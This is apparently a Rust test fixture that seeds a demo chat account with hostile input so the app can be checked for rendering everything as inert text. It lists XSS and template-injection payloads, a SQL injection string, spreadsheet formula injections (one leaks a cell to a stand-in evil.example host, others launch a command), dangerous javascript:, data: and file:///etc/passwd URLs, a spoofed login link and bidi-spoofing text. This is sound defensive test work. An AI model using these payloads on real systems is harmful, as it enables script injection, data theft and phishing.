//! A second demo account whose customers wrote attack strings into every field, to show (and
//! test) that the app renders all of it as inert text and follows no dangerous URL.

use crate::wire::{Conversation, Message};

pub const ADMIN_ID: u64 = 666;
pub const ADMIN_HASH: &str = "6a7c0ffee0ddba11deadbeef00000666";

/// Text that would run, restyle or mislead if it were treated as markup.
pub const TEXT: &[&str] = &[
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "\"><svg onload=window.__pwned=1>",
    "<iframe src=\"javascript:window.__pwned=1\"></iframe>",
    "<a href=\"javascript:window.__pwned=1\">bấm vào đây</a>",
    "<style>*{display:none!important}</style>",
    "</textarea><script>window.__pwned=1</script>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "&lt;b&gt;không in đậm&lt;/b&gt; &amp; &quot;trích dẫn&quot; &#x3C;",
    "\u{202e}gnp.exe \u{202d}Khách đặt hàng",
    "زبون مهم \u{200f}عربي",
    "Kh\u{200b}ách\u{200d} vô\u{feff}hình",
    "' OR '1'='1'; DROP TABLE chat; --",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    // Formulas a spreadsheet would run from an exported file (CSV injection).
    "=HYPERLINK(\"//evil.example/?leak=\"&A1,\"Bấm vào\")",
    "+84 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    // Excel splits at every `;` where it is the list separator (Vietnamese regional settings).
    "Hà Nội;=HYPERLINK(\"http://x\";\"y\");",
    "dòng một\r\ndòng \"hai\", ba",
];

/// A link whose text is a trusted address and whose target is not: the thread's last message.
pub const SPOOFED_LINK: &str =
    r#"<a href="https://evil.example/dang-nhap">https://vatgia.com/dang-nhap</a>"#;

/// The one genuine product page among them (the first customer's page, and a thread's first
/// message's), which must stay a link.
pub const PRODUCT_URL: &str = "https://vatgia.com/438/3001006/giay-da-bong.html";

/// URLs that must never become a link or an image source.
pub const URLS: &[&str] = &[
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    " javascript:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "java\nscript:window.__pwned=1",
    "\u{1}javascript:window.__pwned=1",
    "&#106;avascript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "%6Aavascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/track.gif",
    "\\\\evil.example\\share",
    "http:evil.example",
    "https:/evil.example",
    "blob:http://evil.example/x",
];

pub fn conversations() -> Vec<Conversation> {
    let long = "Ạ".repeat(3000);
    let texts: Vec<&str> = TEXT.iter().copied().chain([long.as_str()]).collect();
    (0..texts.len().max(URLS.len()))
        .map(|i| {
            let text = texts[i % texts.len()];
            let url = URLS[i % URLS.len()];
            let id = 900_000 + i as u64;
            Conversation {
                online: i % 2 == 1,
                name: text.to_owned(),
                address: texts[(i + 1) % texts.len()].to_owned(),
                email: format!("{text}@evil.example"),
                phone: url.to_owned(),
                customer_id: id,
                avatar: url.to_owned(),
                time: 0,
                to_image: url.to_owned(),
                product_id: i as u64,
                hash: text.to_owned(),
                last_message: Some(Message {
                    id: i as u64,
                    text: texts[(i + 2) % texts.len()].to_owned(),
                    // The first customer wrote from a genuine product page: that link must stay.
                    link: if i == 0 { PRODUCT_URL } else { url }.to_owned(),
                    time: Some(1436149648),
                    writer_id: id,
                    ..Message::default()
                }),
                vatgia_user: true,
                support_id: i as u64,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_string_and_url_is_used() {
        let rows = serde_json::to_string(&conversations()).expect("json");
        for text in TEXT.iter().chain(URLS) {
            let encoded = serde_json::to_string(text).expect("json");
            assert!(rows.contains(encoded.trim_matches('"')), "{text}");
        }
    }
}
